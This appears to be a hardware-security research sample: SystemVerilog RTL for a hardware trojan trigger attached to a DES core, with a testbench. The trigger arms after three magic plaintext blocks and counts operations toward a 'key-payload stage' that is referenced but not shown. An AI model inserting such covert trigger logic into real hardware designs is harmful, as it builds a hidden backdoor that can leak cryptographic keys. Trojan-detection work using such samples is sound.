// File: rtl/trojan_pkg.sv
// Shared definitions for the trigger generator and the downstream key-payload stage.
package trojan_pkg;

    typedef enum logic [1:0] {
        IDLE  = 2'd0,
        SEQ1  = 2'd1,
        SEQ2  = 2'd2,
        ARMED = 2'd3
    } seq_state_e;

    localparam logic [63:0] MAGIC0_DEFAULT = 64'h0123456789ABCDEF;
    localparam logic [63:0] MAGIC1_DEFAULT = 64'hFEDCBA9876543210;
    localparam logic [63:0] MAGIC2_DEFAULT = 64'hDEADBEEFCAFEF00D;

    localparam int unsigned TRIGGER_W = 32;

    // Low-nibble value of trigger at which the payload stage activates.
    localparam logic [3:0] PAYLOAD_ACT_NIBBLE = 4'hF;

endpackage

// File: rtl/trojan_trigger_gen_magic_seq_detect.sv
// Watches accepted plaintext blocks for the three-block magic sequence and
// latches armed once it has been seen in order.
module magic_seq_detect
    import trojan_pkg::*;
#(
    parameter logic [63:0] MAGIC0 = MAGIC0_DEFAULT,
    parameter logic [63:0] MAGIC1 = MAGIC1_DEFAULT,
    parameter logic [63:0] MAGIC2 = MAGIC2_DEFAULT
) (
    input  logic        clk,
    input  logic        rst,
    input  logic        accept,
    input  logic [63:0] desIn,
    output logic        armed
);

    seq_state_e state_q;
    seq_state_e state_d;
    logic       hit0;
    logic       hit1;
    logic       hit2;

    assign hit0 = (desIn == MAGIC0);
    assign hit1 = (desIn == MAGIC1);
    assign hit2 = (desIn == MAGIC2);

    always_ff @(posedge clk) begin
        if (rst) begin
            state_q <= IDLE;
        end else begin
            state_q <= state_d;
        end
    end

    // A mismatch that is itself MAGIC0 restarts the sequence rather than dropping it.
    always_comb begin
        state_d = state_q;
        if (accept) begin
            unique case (state_q)
                IDLE:    state_d = hit0 ? SEQ1 : IDLE;
                SEQ1:    state_d = hit1 ? SEQ2 : (hit0 ? SEQ1 : IDLE);
                SEQ2:    state_d = hit2 ? ARMED : (hit0 ? SEQ1 : IDLE);
                default: state_d = ARMED;
            endcase
        end
    end

    always_comb begin
        armed = (state_q == ARMED);
    end

endmodule

// File: rtl/trojan_trigger_gen.sv
// Trigger stage: tracks the outstanding DES operation and, once armed,
// counts completed operations into the trigger word for the payload stage.
module trojan_trigger_gen
    import trojan_pkg::*;
#(
    parameter logic [63:0] MAGIC0 = MAGIC0_DEFAULT,
    parameter logic [63:0] MAGIC1 = MAGIC1_DEFAULT,
    parameter logic [63:0] MAGIC2 = MAGIC2_DEFAULT
) (
    input  logic                 clk,
    input  logic                 rst,
    input  logic                 start,
    input  logic [63:0]          desIn,
    input  logic                 done,
    output logic [TRIGGER_W-1:0] trigger,
    output logic                 armed,
    output logic                 busy
);

    logic                 busy_q;
    logic                 busy_d;
    logic [TRIGGER_W-1:0] trigger_q;
    logic [TRIGGER_W-1:0] trigger_d;
    logic                 accept;
    logic                 count_en;

    // A start lands either on an idle core or in the same cycle the current one finishes.
    assign accept   = start & (~busy_q | done);
    assign count_en = armed & busy_q & done;

    magic_seq_detect #(
        .MAGIC0 (MAGIC0),
        .MAGIC1 (MAGIC1),
        .MAGIC2 (MAGIC2)
    ) u_seq_detect (
        .clk    (clk),
        .rst    (rst),
        .accept (accept),
        .desIn  (desIn),
        .armed  (armed)
    );

    always_comb begin
        busy_d = busy_q;
        if (accept) begin
            busy_d = 1'b1;
        end else if (done) begin
            busy_d = 1'b0;
        end
    end

    always_comb begin
        trigger_d = trigger_q + {{(TRIGGER_W-1){1'b0}}, count_en};
    end

    always_ff @(posedge clk) begin
        if (rst) begin
            busy_q    <= 1'b0;
            trigger_q <= '0;
        end else begin
            busy_q    <= busy_d;
            trigger_q <= trigger_d;
        end
    end

    assign busy    = busy_q;
    assign trigger = trigger_q;

endmodule

// File: tb/tb_trojan_trigger_gen.sv
// Randomised bench for trojan_trigger_gen against a sequence-history reference model.
module tb_trojan_trigger_gen;

    localparam logic [63:0] M0 = 64'h0123456789ABCDEF;
    localparam logic [63:0] M1 = 64'hFEDCBA9876543210;
    localparam logic [63:0] M2 = 64'hDEADBEEFCAFEF00D;
    localparam logic [31:0] PRELOAD = 32'hFFFFFFFE;

    logic        clk = 1'b0;
    logic        rst;
    logic        start;
    logic [63:0] desIn;
    logic        done;
    logic [31:0] trigger;
    logic        armed;
    logic        busy;

    always #5 clk = ~clk;

    trojan_trigger_gen dut (
        .clk     (clk),
        .rst     (rst),
        .start   (start),
        .desIn   (desIn),
        .done    (done),
        .trigger (trigger),
        .armed   (armed),
        .busy    (busy)
    );

    // Reference model state
    logic [31:0] cnt_m   = '0;
    logic        armed_m = 1'b0;
    logic        busy_m  = 1'b0;
    logic [63:0] hist[$];
    logic        preload_req;

    // Literal expectations that pin the model
    logic        lit_en;
    string       lit_name;
    logic [31:0] lit_trig;
    logic        lit_armed;
    logic        lit_busy;
    logic        chk_on;

    int n_vec = 0;
    int n_bad = 0;

    // Model: armed once the last three accepted blocks read M0,M1,M2; count dones of armed operations.
    initial begin : model
        logic acc;
        forever begin
            @(posedge clk);
            if (rst) begin
                cnt_m   = '0;
                armed_m = 1'b0;
                busy_m  = 1'b0;
                hist.delete();
            end else begin
                acc = start && (!busy_m || done);
                if (preload_req)
                    cnt_m = PRELOAD;
                else if (armed_m && busy_m && done)
                    cnt_m = cnt_m + 32'd1;
                if (acc && !armed_m) begin
                    hist.push_back(desIn);
                    if (hist.size() > 3) void'(hist.pop_front());
                    if (hist.size() == 3 && hist[0] == M0 && hist[1] == M1 && hist[2] == M2)
                        armed_m = 1'b1;
                end
                if (acc)
                    busy_m = 1'b1;
                else if (done)
                    busy_m = 1'b0;
            end
        end
    end

    initial begin : compare
        forever begin
            @(negedge clk);
            if (chk_on) begin
                n_vec++;
                if (trigger !== cnt_m || armed !== armed_m || busy !== busy_m) begin
                    n_bad++;
                    $display("FAIL model t=%0t: trigger=%h armed=%b busy=%b, required trigger=%h armed=%b busy=%b",
                             $time, trigger, armed, busy, cnt_m, armed_m, busy_m);
                end
                if (lit_en) begin
                    n_vec++;
                    if (trigger !== lit_trig || armed !== lit_armed || busy !== lit_busy) begin
                        n_bad++;
                        $display("FAIL %s: trigger=%h armed=%b busy=%b, required trigger=%h armed=%b busy=%b",
                                 lit_name, trigger, armed, busy, lit_trig, lit_armed, lit_busy);
                    end else begin
                        $display("check %s: trigger=%h armed=%b busy=%b", lit_name, trigger, armed, busy);
                    end
                end
            end
        end
    end

    function automatic logic [63:0] rand_blk();
        logic [63:0] v;
        do v = {$urandom, $urandom}; while (v == M0 || v == M1 || v == M2);
        return v;
    endfunction

    // Apply one cycle of inputs; outputs it produces are checked at the next falling edge.
    task automatic step(input logic r, input logic s, input logic [63:0] d, input logic dn);
        rst   = r;
        start = s;
        desIn = d;
        done  = dn;
        @(negedge clk);
        #1;
        lit_en = 1'b0;
    endtask

    task automatic expect_next(input string nm, input logic [31:0] t, input logic a, input logic b);
        lit_name  = nm;
        lit_trig  = t;
        lit_armed = a;
        lit_busy  = b;
        lit_en    = 1'b1;
    endtask

    task automatic pair(input logic [63:0] d);
        step(1'b0, 1'b1, d, 1'b0);
        step(1'b0, 1'b0, rand_blk(), 1'b1);
    endtask

    initial begin : stim
        logic [63:0] d;
        rst = 1'b1; start = 1'b0; done = 1'b0; desIn = '0;
        preload_req = 1'b0; lit_en = 1'b0; chk_on = 1'b0;
        lit_name = ""; lit_trig = '0; lit_armed = 1'b0; lit_busy = 1'b0;
        @(negedge clk);
        #1;
        chk_on = 1'b1;
        expect_next("reset", 32'd0, 1'b0, 1'b0);
        step(1'b1, 1'b0, '0, 1'b0);

        // Normal traffic never arms
        for (int i = 0; i < 20; i++) begin
            step(1'b0, 1'b1, rand_blk(), 1'b0);
            repeat ($urandom_range(0, 2)) step(1'b0, 1'b0, rand_blk(), 1'b0);
            step(1'b0, 1'b0, '0, 1'b1);
        end
        expect_next("dormant", 32'd0, 1'b0, 1'b0);
        step(1'b0, 1'b0, '0, 1'b0);

        // Arm and count
        step(1'b1, 1'b0, '0, 1'b0);
        pair(M0);
        pair(M1);
        expect_next("armed_after_m2", 32'd0, 1'b1, 1'b1);
        step(1'b0, 1'b1, M2, 1'b0);
        expect_next("trig_1", 32'd1, 1'b1, 1'b0);
        step(1'b0, 1'b0, '0, 1'b1);
        for (int i = 0; i < 14; i++) pair(rand_blk());
        expect_next("trig_15", 32'd15, 1'b1, 1'b0);
        step(1'b0, 1'b0, '0, 1'b0);

        // Busy interactions
        step(1'b0, 1'b1, rand_blk(), 1'b0);
        expect_next("ignored_start", 32'd15, 1'b1, 1'b1);
        step(1'b0, 1'b1, M0, 1'b0);
        expect_next("start_with_done", 32'd16, 1'b1, 1'b1);
        step(1'b0, 1'b1, rand_blk(), 1'b1);
        expect_next("trig_17", 32'd17, 1'b1, 1'b0);
        step(1'b0, 1'b0, '0, 1'b1);

        // Interrupted sequences, with an ignored start while busy
        step(1'b1, 1'b0, '0, 1'b0);
        step(1'b0, 1'b1, M0, 1'b0);
        expect_next("busy_ignores_x", 32'd0, 1'b0, 1'b1);
        step(1'b0, 1'b1, rand_blk(), 1'b0);
        step(1'b0, 1'b0, '0, 1'b1);
        pair(M0);
        pair(M1);
        pair(rand_blk());
        pair(M0);
        pair(M1);
        expect_next("not_yet_armed", 32'd0, 1'b0, 1'b0);
        step(1'b0, 1'b0, '0, 1'b0);
        expect_next("seq_armed", 32'd0, 1'b1, 1'b1);
        step(1'b0, 1'b1, M2, 1'b0);
        expect_next("seq_trig_1", 32'd1, 1'b1, 1'b0);
        step(1'b0, 1'b0, '0, 1'b1);

        // Counter wrap from a preloaded value
        force dut.trigger_q = PRELOAD;
        preload_req = 1'b1;
        expect_next("preload", PRELOAD, 1'b1, 1'b0);
        step(1'b0, 1'b0, '0, 1'b0);
        preload_req = 1'b0;
        release dut.trigger_q;
        step(1'b0, 1'b0, '0, 1'b0);
        step(1'b0, 1'b1, rand_blk(), 1'b0);
        expect_next("trig_max", 32'hFFFFFFFF, 1'b1, 1'b0);
        step(1'b0, 1'b0, '0, 1'b1);
        step(1'b0, 1'b1, rand_blk(), 1'b0);
        expect_next("trig_wrap", 32'd0, 1'b1, 1'b0);
        step(1'b0, 1'b0, '0, 1'b1);

        // Reset beats a simultaneous done while armed and busy
        pair(rand_blk());
        step(1'b0, 1'b1, rand_blk(), 1'b0);
        expect_next("rst_with_done", 32'd0, 1'b0, 1'b0);
        step(1'b1, 1'b0, '0, 1'b1);

        // Random traffic with magic blocks mixed in
        for (int i = 0; i < 600; i++) begin
            case ($urandom_range(0, 5))
                0: d = M0;
                1: d = M1;
                2: d = M2;
                default: d = rand_blk();
            endcase
            step($urandom_range(0, 199) == 0, $urandom_range(0, 1) == 1, d,
                 $urandom_range(0, 2) != 0);
        end

        chk_on = 1'b0;
        $display("== %0d vectors applied, %0d miscompares ==", n_vec, n_bad);
        $finish;
    end

endmodule
